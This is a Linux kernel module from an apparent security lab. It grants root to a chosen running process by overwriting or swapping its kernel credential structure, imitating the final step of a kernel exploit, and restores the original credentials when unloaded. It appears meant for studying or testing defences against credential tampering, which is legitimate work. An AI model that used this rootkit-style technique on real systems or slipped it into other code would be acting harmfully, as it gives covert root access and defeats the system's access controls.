// SPDX-License-Identifier: GPL-2.0-only
/*
 * evil-cred pid=N [share=1] - makes a running process root without exec, as the
 * last step of a kernel exploit does: its struct cred is written to, or, with
 * share, replaced by the kernel's own (commit_creds(&init_cred)).
 *
 * Removing the module gives the process back what it had.
 */
#include <linux/cred.h>
#include <linux/pid.h>
#include <linux/sched/task.h>

#include "evil.h"

static int pid;
module_param(pid, int, 0);
static bool share;
module_param(share, bool, 0);

static struct task_struct *task;
static const struct cred *old_cred, *old_real_cred;
static struct cred saved;

static void become(const struct cred *from)
{
	struct cred *cred = (struct cred *)old_real_cred;

	cred->uid = from->uid;
	cred->euid = from->euid;
	cred->suid = from->suid;
	cred->fsuid = from->fsuid;
	cred->cap_permitted = from->cap_permitted;
	cred->cap_effective = from->cap_effective;
}

static void point_at(const struct cred *cred, const struct cred *real_cred)
{
	rcu_assign_pointer(task->real_cred, real_cred);
	rcu_assign_pointer(task->cred, cred);
}

static int __init evil_init(void)
{
	const struct cred *root = init_task.real_cred;

	task = get_pid_task(find_vpid(pid), PIDTYPE_PID);
	if (!task)
		return -ESRCH;
	old_cred = task->cred;
	old_real_cred = task->real_cred;
	saved = *old_real_cred;
	if (share)
		point_at(get_cred(root), get_cred(root));
	else
		become(root);
	return 0;
}

static void __exit evil_exit(void)
{
	const struct cred *root = init_task.real_cred;

	if (!share && pid_alive(task))
		become(&saved);
	if (share && pid_alive(task)) {
		point_at(old_cred, old_real_cred);
		synchronize_rcu();
		put_cred(root);
		put_cred(root);
	}
	put_task_struct(task);
}

module_init(evil_init);
module_exit(evil_exit);
MODULE_DESCRIPTION("lab: gives root to a process");
MODULE_LICENSE("GPL");
